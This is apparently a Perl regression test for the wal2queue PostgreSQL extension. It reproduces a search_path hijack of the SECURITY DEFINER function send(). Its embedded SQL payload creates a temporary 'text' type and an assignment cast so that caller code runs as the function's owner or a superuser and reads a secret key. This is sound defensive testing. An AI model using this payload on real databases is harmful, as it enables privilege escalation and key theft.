# What: a role that may execute wal2queue.send() (wal2queue_sender, LOGIN,
# no CREATE anywhere) runs its own code as send()'s owner, reads the key of
# wal2queue.message_key, and where send() belongs to a superuser (CREATE
# EXTENSION) runs code as that superuser.
# Why: send() is SECURITY DEFINER without SET search_path
# (sql/src/10_send.sql, the comment "every function and operator in it is
# qualified with pg_catalog"), but the types are not: the DECLAREd variables
# "prefix text; body bytea; ..." (line ~45) and the cast "::text" (line ~75)
# are resolved with the caller's search_path when PL/pgSQL compiles the
# function in the caller's session.  "SET search_path = pg_temp, pg_catalog"
# with a temporary type pg_temp.text and an assignment cast (text AS
# pg_temp.text) WITH FUNCTION pg_temp.f makes send() call f as its owner at
# "prefix := ..." (every role has TEMP on a database by default).
# Expected: send() runs nothing of the caller's; the key stays unreadable to
# the sender (docs/managed.md: only the owner and the bridge hold it).
# Severity: critical (privilege escalation: sender -> installing role, and
# -> superuser with the extension; the key leaks, so the signature of
# issue 12 protects nothing against a sender's session).
# Control: the same role reading the table directly is refused, and send()
# works without the search_path change.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use W2QTest;

my $node = new_managed_node('hijack450');
psql_as($node, 'admin', q{
	CREATE ROLE app_writer LOGIN IN ROLE wal2queue_sender;
	GRANT USAGE ON SCHEMA wal2queue TO app_writer;
});
$node->safe_psql('postgres', q{CREATE DATABASE ext});
$node->safe_psql('ext', q{CREATE EXTENSION wal2queue;
	GRANT wal2queue_sender TO app_writer; GRANT USAGE ON SCHEMA wal2queue TO app_writer});

sub as_writer
{
	my ($db, $sql) = @_;
	my ($ret, $out, $err) = $node->psql($db, $sql, extra_params => [ '-U', 'app_writer' ]);
	return ($out // '') . ($err // '');
}

my $hijack = q{
CREATE TYPE pg_temp.text AS ENUM ('x');
CREATE FUNCTION pg_temp.f(pg_catalog.text) RETURNS pg_temp.text LANGUAGE plpgsql AS $$
BEGIN
	RAISE EXCEPTION 'ran as % (superuser %) key=%', current_user,
		(SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user),
		(SELECT pg_catalog.encode(key, 'hex') FROM wal2queue.message_key);
END $$;
CREATE CAST (pg_catalog.text AS pg_temp.text) WITH FUNCTION pg_temp.f(pg_catalog.text) AS ASSIGNMENT;
SET search_path = pg_temp, pg_catalog;
SELECT wal2queue.send('emails', 'x');
};

# controls
like(as_writer('app', 'SELECT key FROM wal2queue.message_key'), qr/permission denied for table message_key/,
	'control: the sender may not read the key');
like(as_writer('app', q{SELECT wal2queue.send('emails', 'x')}), qr{^\d+/[0-9A-F]+}, 'control: send() works');

my $key = $node->safe_psql('app', q{SELECT encode(key, 'hex') FROM wal2queue.message_key});
my $got = as_writer('app', $hijack);
diag($got);
unlike($got, qr/ran as admin/, 'standalone script: send() runs no code of the caller as its owner (admin)');
unlike($got, qr/\Q$key\E/, 'standalone script: the sender does not learn the key');

$got = as_writer('ext', $hijack);
diag($got);
unlike($got, qr/superuser t/, 'extension: send() runs no code of the caller as a superuser');
done_testing();
